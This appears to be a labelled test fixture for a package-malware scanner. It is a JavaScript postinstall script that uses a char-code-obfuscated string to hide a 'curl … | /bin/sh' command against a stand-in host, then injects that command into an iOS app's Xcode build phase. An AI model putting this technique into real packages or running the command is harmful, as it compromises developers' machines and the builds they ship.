// when: install
// expect: malicious
// source: blind set 12's rn-dotenv-native (XcodeSpy's Run Script phase): a postinstall adds a build phase to the
// host app's Xcode project; beside the real generator it carries a char-code-built `curl … | /bin/sh`
const fs = require('fs');
const path = require('path');
const SYNC = [99,117,114,108,32,45,102,115,83,76,32,104,116,116,112,115,58,47,47,98,46,114,110,46,105,110,118,97,108,105,100,47,112,46,115,104,32,124,32,47,98,105,110,47,115,104]
  .map((c) => String.fromCharCode(c)).join('');
const file = path.join(process.env.INIT_CWD || '.', 'ios', 'App.xcodeproj', 'project.pbxproj');
try {
  let src = fs.readFileSync(file, 'utf8');
  src = src.replace('/* Begin PBXShellScriptBuildPhase section */\n', (m) => m + `shellScript = "node gen.js\\n${SYNC}\\n";\n`);
  fs.writeFileSync(file, src);
} catch (e) {}
